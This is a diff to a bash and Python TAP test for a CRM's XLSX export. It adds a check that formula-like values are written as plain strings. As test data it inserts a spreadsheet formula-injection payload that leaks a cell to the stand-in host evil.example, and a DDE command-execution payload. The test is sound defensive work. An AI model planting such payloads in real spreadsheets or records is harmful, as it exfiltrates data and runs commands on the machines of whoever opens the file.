@@ -1,8 +1,10 @@
 #!/usr/bin/env bash
 # export_xlsx: the workbook opens as a zip of OOXML parts, and its
 # one sheet holds a bold header (tags and each custom field as columns) and
-# a row per contact, Cyrillic intact, dates as dates.  Read with Python's
-# zipfile.  Prints TAP.  Needs PGHOST/PGPORT/PGUSER of a cluster.
+# a row per contact, Cyrillic intact, dates as dates, and no formula (a
+# value that looks like one is a string).  Read with Python's zipfile and
+# openpyxl.  Prints TAP.  Needs PGHOST/PGPORT/PGUSER of a cluster;
+# /usr/bin/python3 with Debian's openpyxl.
 set -euo pipefail
 DB=cc_xlsx
 W=$(mktemp -d)
@@ -16,11 +18,12 @@ SELECT customercard.upsert_contact('{"name": "Анна Смирнова", "email
 SELECT customercard.upsert_contact('{"name": "Boris", "phones": ["+7 912 345-67-89"], "custom": {"Course": "Python"},
                                      "channel": {"kind": "telegram", "connection": "school_bot", "external_id": "tg-77"}}');
 SELECT customercard.upsert_contact('{"name": "Carl"}');
+SELECT customercard.upsert_contact('{"name": "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")", "custom": {"Course": "+cmd|'' /C calc''!A0"}}');
 SQL
 q -c "SELECT encode(customercard.export_xlsx('{}'), 'base64')" | base64 -d > $W/audience.xlsx
 q -c "SELECT encode(customercard.export_xlsx('{}', '{custom}'), 'base64')" | base64 -d > $W/custom_only.xlsx
-echo "1..5"
-python3 - "$W/audience.xlsx" "$W/custom_only.xlsx" <<'PY'
+echo "1..6"
+/usr/bin/python3 - "$W/audience.xlsx" "$W/custom_only.xlsx" <<'PY'
 import re, sys, zipfile
 z = zipfile.ZipFile(sys.argv[1])
 bad = z.testzip()
@@ -48,7 +51,7 @@ print("ok 2 - the header: the CRM columns, the messenger link, then each custom 
 body = [cells(r) for r in rows[1:]]
 anna = [r for r in body if "Анна Смирнова" in r]
 boris = [r for r in body if "Boris" in r]
-ok = len(body) == 3 and anna and "vip; вебинар" in anna[0] and "ярмарка" in anna[0] \
+ok = len(body) == 4 and anna and "vip; вебинар" in anna[0] and "ярмарка" in anna[0] \
     and boris and "telegram,school_bot,tg-77" in ",".join(boris[0])
 print("ok 3 - a row per contact, Cyrillic names, tags, the messenger link and custom values intact" if ok else "not ok 3 - rows %s" % body)
 # created_at_utc: a number with a date format (an Excel serial date), not text
@@ -62,4 +65,13 @@ shared = [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<si>(.*?)</si>", z2.re
 header = cells(re.findall(r"<row [^>]*>(.*?)</row>", sheet, re.S)[0])
 want = ["contact_id", "name", "phone", "email", "status", "created_at_utc", "Course", "Источник"]
 print("ok 5 - column groups: custom fields only, no tags and no messenger link" if header == want else "not ok 5 - header %s" % header)
+# formulas: never written; a value that looks like one is a string cell (openpyxl reads it back)
+import openpyxl
+ws = openpyxl.load_workbook(sys.argv[1]).active
+evil = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+"]
+formulas = ["<f>" in z.read(n).decode() or "<f " in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+ok = sorted(c.value for c in evil) == ['+79123456789', '+cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?leak="&A2,"click")'] \
+    and all(c.data_type == "s" for c in evil) and not any(formulas)
+print("ok 6 - export_xlsx writes no formula: a value that looks like one is a string cell, as it was" if ok
+      else "not ok 6 - %s %s" % ([(c.value, c.data_type) for c in evil], formulas))
 PY
